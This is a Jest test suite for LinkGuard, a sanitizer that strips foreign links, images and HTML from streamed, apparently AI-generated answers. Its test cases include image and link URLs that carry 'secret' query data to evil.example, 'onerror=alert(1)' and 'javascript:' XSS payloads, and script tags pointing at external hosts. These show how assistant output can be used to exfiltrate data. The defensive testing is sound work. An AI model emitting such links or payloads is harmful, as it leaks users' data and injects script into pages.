import { describe, expect, it } from '@jest/globals';
import { LinkGuard } from './link-guard.js';
import { seeded } from './sources.fixture.js';

const source =
  'See https://docs.example/guide and (https://docs.example/api?x=1). Images: https://docs.example/logo.png';

function guard(pieces: readonly string[], known = [source]) {
  const links = new LinkGuard(known);
  const text = [...pieces.map((piece) => links.push(piece)), links.end()].join('');
  return { text, removed: links.removed };
}

describe('LinkGuard', () => {
  it.each([
    [
      'a link from a source',
      'Read [the guide](https://docs.example/guide).',
      'Read [the guide](https://docs.example/guide).',
      0,
    ],
    ['a bare address from a source', 'At https://docs.example/guide.', 'At https://docs.example/guide.', 0],
    ['an address with more behind it', 'At https://docs.example/guide?q=secret now', 'At  now', 1],
    ['an address cut short of the one in the source', 'At https://docs.example/api?x=12', 'At ', 1],
    ['a foreign link', 'Read [this](https://evil.example/?q=secret)!', 'Read [this]!', 1],
    ['a foreign image', '![x](https://evil.example/p.png?d=secret)', '[x]', 1],
    [
      'an image from a source becomes a link',
      '![logo](https://docs.example/logo.png)',
      '[logo](https://docs.example/logo.png)',
      0,
    ],
    ['a reference', 'a ![x][1]\n\n[1]: https://evil.example/p.png', 'a [x][1]\n\n[1]: ', 1],
    ['a link without scheme', '[x](//evil.example/p) //evil.example/p www.evil.example/p', '[x]  ', 3],
    ['a script link', '[x](javascript:alert`1`)', '[x]', 1],
    [
      'an address in angle brackets',
      '<https://evil.example/?q=1> <https://docs.example/guide>',
      ' <https://docs.example/guide>',
      1,
    ],
    [
      'code and relative links',
      'f[0](x, y), g[1](x) and [3](see page 4)',
      'f[0](x, y), g[1](x) and [3](see page 4)',
      0,
    ],
    [
      'slashes browsers read as a host',
      '[x](/\\evil.example) [x](\\\\evil.example) [x](\n//evil.example/p)',
      '[x] [x] [x]',
      3,
    ],
    ['the element of a prompt', `<data-${'a1'.repeat(12)}>\na\n</data-${'a1'.repeat(12)}>`, '\na\n', 0],
    ['tags', 'a <img src=x onerror=alert(1)> <b>b</b> <p/><BR>c', 'a  b c', 0],
    [
      'a script',
      '<script>a</script> <script src="//evil.example/x"></script>',
      '&lt;script>a&lt;/script> &lt;/script>',
      0,
    ],
    [
      'placeholders with the name of an element',
      'Set <title>, <code> and KEY=<your-key> in <path>.',
      'Set &lt;title>, &lt;code> and KEY=&lt;your-key> in &lt;path>.',
      0,
    ],
    [
      'an address in an element',
      '<video //evil.example> <link a:b https://evil.example/>',
      '&lt;video > &lt;link a:b >',
      2,
    ],
    ['comments', 'a <!-- b', 'a &lt;!-- b', 0],
    [
      'a name in angle brackets that is no element',
      'Type <branch>, </kbdx> or <a_b>',
      'Type &lt;branch>, &lt;/kbdx> or &lt;a_b>',
      0,
    ],
    ['two words in angle brackets', 'git commit -m <commit message>', 'git commit -m &lt;commit message>', 0],
    ['custom elements, elements of SVG', '<x-y>a <x-y a="b"> <Path/> <use href=x />', '&lt;x-y>a  &lt;Path/> ', 0],
    ['attributes, whatever the name', 'a <branch onclick=alert(1)>b</branch>', 'a b&lt;/branch>', 0],
    ['a placeholder in inline code', 'Run `git checkout <branch>`!', 'Run `git checkout <branch>`!', 0],
    [
      'types in inline code',
      '`vector<int> v = f<T>()`, `Map<string, Vec<T>>`',
      '`vector<int> v = f<T>()`, `Map<string, Vec<T>>`',
      0,
    ],
    [
      'names with colons',
      '`vector<std::string>` or vector<std::string>',
      '`vector<std::string>` or vector&lt;std::string>',
      0,
    ],
    ['elements in inline code', 'Use `<div>` or ``<x-y> ` ``.', 'Use `&lt;div>` or ``&lt;x-y> ` ``.', 0],
    ['attributes in inline code', '`<img src=x>` `<t onclick="f()">` `<t, u=v>`', '`` `` `&lt;t, u=v>`', 0],
    ['comments in inline code', '`<!-- a -->`', '`&lt;!-- a -->`', 0],
    ['a code mark without its like', 'a ` <branch>\n` b', 'a ` &lt;branch>\n` b', 0],
    ['code marks of other lengths', '`` a ` <t> ` <v> ```', '`` a ` <t> ` &lt;v> ```', 0],
    ['a code mark that is escaped', '\\` <t> ` b', '\\` &lt;t> ` b', 0],
    [
      'a tag around a tag',
      'a <<b>img src=x onerror=alert(1)> <<https://evil.example>b>',
      'a < img src=x onerror=alert(1)> < b>',
      1,
    ],
    [
      'an address around a tag',
      '[x]<b>(javascript:f) http:/<b>/evil.example/ w<b>ww.evil.example',
      '[x] (javascript:f) http:/ /evil.example/ w ww.evil.example',
      0,
    ],
    [
      'a known address with a tag before its rest',
      'https://docs.example/guide<b>?q=secret',
      'https://docs.example/guide ?q=secret',
      0,
    ],
    [
      'an image mark behind another',
      '!![logo](https://docs.example/logo.png)',
      '! [logo](https://docs.example/logo.png)',
      0,
    ],
    ['an address right behind a tag', 'a<b>www.evil.example b<b>http://evil.example', 'a b', 2],
    ['words with tags inside', 'H<sub>2</sub>O', 'H2O', 0],
    ['brackets in brackets', '![a[b]](https://evil.example/x)', '![a[b]]', 1],
    [
      'comparisons, markers and code marks',
      'if a < b and c > d [1], x[2] (see) a/b and/or!',
      'if a < b and c > d [1], x[2] (see) a/b and/or!',
      0,
    ],
    ['other schemes', 'ftp://evil.example/x ws://evil.example', ' ', 2],
    ['an exclamation before a marker', 'Great![1] Yes!', 'Great![1] Yes!', 0],
    ['words with colons', 'note: http and https: are schemes', 'note: http and https: are schemes', 0],
  ])('%s', (_, text, expected, removed) => {
    expect(guard([text])).toEqual({ text: expected, removed });
    expect(guard([...text])).toEqual({ text: expected, removed });
  });

  it('leaves code blocks alone, from margin to margin', () => {
    const code = 'So:\n```html\n<img src="https://a.example/x">\n```\n';
    expect(guard([`${code}![x](https://evil.example/)`])).toEqual({ text: `${code}[x]`, removed: 1 });
    const inline = '`![x](https://evil.example/)` and ```![x](https://evil.example/)```';
    expect(guard([inline]).text).not.toContain('evil');
    expect(guard([`<div>\n${code}`]).text).toContain('<img');
    expect(guard(['<!--\n```\n-->\n```\n![x](https://evil.example/)']).text).toBe('&lt;!--\n```\n-->\n```\n[x]');
  });

  it('gives the same, however the answer is cut', () => {
    const random = seeded(3);
    const answer =
      'A ![i](https://evil.example/a) [g](https://docs.example/guide) <b>x</b> www.evil.example [1] b<c //e.example/z. `x<T> <T, u<V>> <b>` `<i <k> http://e.example/ü 😀!';
    const whole = guard([answer]);
    for (let round = 0; round < 200; round++) {
      const pieces: string[] = [];
      for (let at = 0; at < answer.length;) {
        const length = 1 + Math.floor(random() * 9);
        pieces.push(answer.slice(at, at + length));
        at += length;
      }
      expect(guard(pieces)).toEqual(whole);
    }
    expect(whole.removed).toBe(4);
  });

  it('reads a long hostile answer in reasonable time', () => {
    for (const part of ['`<a', '``<a`<t>', '<<b>//', '![', '](', '<a ', '//a', 'a+', 'www.', '[', '`', 'a://'])
      guard([part.repeat(4_000)]);
  });
});
